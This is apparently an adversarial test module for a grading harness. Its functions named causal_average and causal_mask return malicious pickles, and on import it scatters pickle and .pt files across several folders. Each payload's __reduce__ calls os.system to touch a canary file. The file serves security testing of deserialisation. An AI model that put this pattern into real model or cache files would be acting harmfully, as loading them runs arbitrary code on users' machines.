# why: returns pickles whose loading would run code (bytes, an object with __reduce__, a torch.save file), and leaves pickle files wherever it can
# earns: zero-on causal_average, causal_mask
import io as _io
import os as _os
import pickle as _pickle


class _Payload:
    def __reduce__(self):
        return (_os.system, ("touch /tmp/adv-pickle-ran-@TOKEN@ @OUT@/adv-pickle-ran-@TOKEN@",))


_BYTES = _pickle.dumps(_Payload())
for _folder in ("/tmp", "@OUT@", "@OUT@/base", "@SUBS@", "@ROOT@", "."):
    for _name in ("results-@TOKEN@.pkl", "cache-@TOKEN@.pt"):
        try:
            with open(_os.path.join(_folder, _name), "wb") as _f:
                _f.write(_BYTES)
        except OSError:
            pass


def causal_average(T):
    return _BYTES


def causal_mask(T_q, T_k=None, *, device=None):
    buffer = _io.BytesIO()
    torch.save({"mask": _Payload()}, buffer)
    return [buffer.getvalue(), _Payload(), bytearray(_BYTES)]
